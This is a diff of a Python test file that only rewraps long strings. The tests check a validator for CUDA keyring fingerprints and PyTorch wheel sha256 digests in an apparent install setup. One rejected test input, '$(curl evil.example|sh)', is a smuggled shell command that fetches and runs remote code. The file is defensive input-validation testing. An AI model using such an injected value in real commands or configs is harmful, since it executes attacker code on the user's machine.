@@ -71,7 +71,8 @@ def keyring_deb(tmp: Path, *names: str) -> tuple[Path, list[str]]:
     root = tmp / "pkg"
     (root / "DEBIAN").mkdir(parents=True)
     (root / "DEBIAN" / "control").write_text(
-        "Package: cuda-keyring\nVersion: 1.1-1\nArchitecture: all\nMaintainer: test <t@example.com>\nDescription: test\n"
+        "Package: cuda-keyring\nVersion: 1.1-1\nArchitecture: "
+        "all\nMaintainer: test <t@example.com>\nDescription: test\n"
     )
     (root / "usr/share/keyrings").mkdir(parents=True)
     exported = subprocess.run(
@@ -300,17 +301,20 @@ def data(tmp_path: Path) -> Path:
         (
             {"pytorch_wheel_sha256": "9DDE30F3"},
             "pytorch_wheel_sha256",
-            "must be sha256 digests (64 lower-case hex digits) separated by spaces, or empty (not checked) (got '9DDE30F3')",
+            "must be sha256 digests (64 lower-case hex digits) separated "
+            "by spaces, or empty (not checked) (got '9DDE30F3')",
         ),
         (
             {"cuda_repo_key_fingerprint": "EB69 3B30 35CD 5710 E231 E123 A4B4 6996 3BF8 63CC"},
             "cuda_repo_key_fingerprint",
-            "must be an OpenPGP fingerprint of 40 upper-case hex digits without spaces, or empty (got 'EB69 3B30 35CD 5710 E231 E123 A4B4 6996 3BF8 63CC')",
+            "must be an OpenPGP fingerprint of 40 upper-case hex digits without spaces, or empty (got 'EB69 3B30 35CD "
+            "5710 E231 E123 A4B4 6996 3BF8 63CC')",
         ),
         (
             {"cuda_repo_key_fingerprint": "$(curl evil.example|sh)"},
             "cuda_repo_key_fingerprint",
-            "must be an OpenPGP fingerprint of 40 upper-case hex digits without spaces, or empty (got '$(curl evil.example|sh)')",
+            "must be an OpenPGP fingerprint of 40 upper-case hex digits "
+            "without spaces, or empty (got '$(curl evil.example|sh)')",
         ),
         (
             {"cuda_repo_key_fingerprint": ""},
